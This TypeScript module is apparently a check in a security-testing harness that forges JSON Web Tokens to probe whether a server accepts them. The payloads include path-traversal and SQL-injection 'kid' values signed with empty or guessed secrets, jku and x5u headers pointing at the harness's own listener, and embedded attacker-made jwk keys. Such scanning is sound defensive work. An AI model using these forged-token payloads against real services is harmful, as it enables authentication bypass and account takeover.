import { createPublicKey, generateKeyPairSync, type KeyObject } from 'node:crypto'
import type { Claims } from '../../../gather/accounts.ts'
import type { Stand } from '../../../gather/stand.ts'
import { type ForgedToken, noTrials, tryTokens } from '../../../gather/token-trials.ts'
import { signToken } from '../../../gather/tokens/jwt.ts'
import type { Facts } from './judge.ts'

export async function gather(stand: Stand): Promise<Facts> {
  const { accounts } = stand
  const { tokens } = accounts
  const session = await accounts.a()
  const real = tokens.decode(session.accessToken ?? '')
  if (tokens.kind(session) === 'opaque' || real === undefined) {
    return { isJwt: false, calls: [], ...noTrials }
  }
  const listener = await stand.listen()
  try {
    const forged = [
      ...hintsAtSecrets(real.header, real.claims),
      ...hintsAtKeys(real.header, real.claims, listener.origin),
    ]
    const trials = await tryTokens(stand, { session, forged })
    // Fetching a key may go on after the answer.
    await stand.pause(500)
    return { isJwt: true, calls: [...listener.calls()], ...trials }
  } finally {
    await listener.close()
  }
}

/** `kid` taken for a file or for a part of a query, whose result would be the secret. */
function hintsAtSecrets(header: Claims, claims: Claims): readonly ForgedToken[] {
  const up = '../'.repeat(12)
  const hints: readonly (readonly [string, string, string])[] = [
    ['kid that leads to an empty file', `${up}dev/null`, ''],
    ['kid that is the path of an empty file', '/dev/null', ''],
    ['kid that is the URL of an empty file', 'file:///dev/null', ''],
    ['kid that leads up with backslashes', `${'..\\'.repeat(12)}dev\\null`, ''],
    ['kid with SQL', "plimsoll' UNION SELECT 'plimsoll' -- ", 'plimsoll'],
    [
      'kid with SQL without a comment',
      "plimsoll' UNION SELECT 'plimsoll' WHERE '1'='1",
      'plimsoll',
    ],
    ['an empty kid', '', ''],
  ]
  return hints.map(([member, kid, secret]) => ({
    member,
    token: signToken({ ...header, alg: 'HS256', kid }, claims, 'HS256', secret),
  }))
}

/** A key that comes with the token, or an address where it is to be had. */
function hintsAtKeys(header: Claims, claims: Claims, origin: string): readonly ForgedToken[] {
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey
  const kid = 'plimsoll'
  const sign = (member: string, alg: string, key: KeyObject, hint: Claims): ForgedToken => ({
    member,
    token: signToken({ ...header, ...hint, alg }, claims, alg, key),
  })
  return [
    sign('jku at the listener', 'RS256', rsa, { kid, jku: `${origin}/jwks.json` }),
    sign('x5u at the listener', 'RS256', rsa, { kid, x5u: `${origin}/certificate.pem` }),
    sign('an embedded jwk of RSA', 'RS256', rsa, { kid, jwk: jwkOf(rsa, kid) }),
    sign('an embedded jwk of EC', 'ES256', ec, { kid, jwk: jwkOf(ec, kid) }),
    sign('kid that is an address', 'RS256', rsa, { kid: `${origin}/jwks.json` }),
  ]
}

function jwkOf(key: KeyObject, kid: string): object {
  return { ...createPublicKey(key).export({ format: 'jwk' }), kid, use: 'sig' }
}
